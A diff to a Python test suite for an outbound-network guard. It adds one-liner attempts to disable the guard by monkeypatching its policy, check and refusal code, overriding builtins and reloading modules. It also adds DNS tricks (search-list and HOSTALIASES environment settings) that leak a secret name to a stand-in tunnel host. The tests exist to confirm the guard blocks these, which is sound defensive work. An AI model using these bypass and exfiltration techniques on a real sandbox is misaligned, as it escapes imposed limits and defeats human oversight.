@@ -88,6 +88,16 @@ TCP = {
     "tampered module": "import types; sys.modules['noegress_guard.refusal'] = types.ModuleType('x'); tcp().connect(('127.0.0.1', PORT))",
     "tampered policy": "import noegress_guard; noegress_guard._started.clear(); noegress_guard.start = print; tcp().connect(('127.0.0.1', PORT))",
     "reloaded socket": "import importlib; del sys.modules['_socket']; import _socket as s2; importlib.reload(socket); socket.socket().connect(('127.0.0.1', PORT))",
+    "policy object changed": "import noegress_guard as g; from noegress_guard.destination import Destination as D; p = g.active_policies()[0]; p.networks = p.allow = (D(f'127.0.0.1:{PORT}'),); type(p).allows_address = lambda *a: True; tcp().connect(('127.0.0.1', PORT))",
+    "policy patched": "import noegress_guard.policy as p; p.GuardPolicy.allows_address = lambda *a: True; tcp().connect(('127.0.0.1', PORT))",
+    "entries patched": "import noegress_guard.destination as d; d.Destination.covers_address = d.Destination.covers_port = lambda *a: True; tcp().connect(('127.0.0.1', PORT))",
+    "gate patched": "import noegress_guard.decision as d; d.Gate.allows_address = d.Gate._agree = lambda *a: True; tcp().connect(('127.0.0.1', PORT))",
+    "check patched": "import noegress_guard.network as n; n._check_send = lambda *a: None; tcp().connect(('127.0.0.1', PORT))",
+    "refusal patched": "import noegress_guard.refusal as r; r.refuse = lambda *a: None; r.ask = lambda e: 'pass'; tcp().connect(('127.0.0.1', PORT))",
+    "error patched": "import noegress_guard.errors as e; e.EgressRefused = lambda *a: None; tcp().connect(('127.0.0.1', PORT))",
+    "built-in functions patched": "import builtins as b; b.all = b.any = b.bool = lambda *a: True; tcp().connect(('127.0.0.1', PORT))",
+    "import patched": "import builtins as b; b.__import__ = lambda *a: sys; tcp().connect(('127.0.0.1', PORT))",
+    "reloaded guard": "import importlib, noegress_guard; importlib.reload(noegress_guard); sys.addaudithook = print; tcp().connect(('127.0.0.1', PORT))",
     "environment changed": "import os; os.environ['NOEGRESS_GUARD_POLICY'] = '/dev/null'; tcp().connect(('127.0.0.1', PORT))",
 }
 
@@ -208,13 +218,16 @@ LEAKS = {
     "idna": "socket.getaddrinfo('ｓecret.tunnel.example', 80)",
     "below an allowed name": "socket.getaddrinfo('secret.allowed.example', 80)",
     "asyncio": "asyncio.run(asyncio.wait_for(stream('secret.tunnel.example'), 5))",
+    "a search list": "import os; os.environ.update(LOCALDOMAIN='secret.tunnel.example', RES_OPTIONS='ndots:9'); socket.getaddrinfo('allowed.example', 80)",
+    "an alias": "import os; open('aliases', 'w').write('db secret.tunnel.example\\n'); os.putenv('HOSTALIASES', 'aliases'); socket.getaddrinfo('db', 80)",
+    "digits of a loopback address": "socket.getnameinfo(('127.1.2.3', 80), socket.NI_NAMEREQD)",
     "subclass of the type": "type('S', (socket.socket,), {})().connect(('secret.tunnel.example', 80))",
 }
 
 
 @pytest.mark.parametrize("case", LEAKS)
 def test_a_name_that_is_not_listed_never_reaches_the_name_server(guarded: Guarded, case: str) -> None:
-    policy = guarded.write({"allow": ["allowed.example:80"]})
+    policy = guarded.write({"allow": ["allowed.example:80", "db:80"]})
     code = PREPARE.format(port=80) + LEAKS[case]
     done = guarded.run_isolated(ZONE, str(guarded.python), "-c", code, NOEGRESS_GUARD_POLICY=str(policy))
     assert done.status == 1
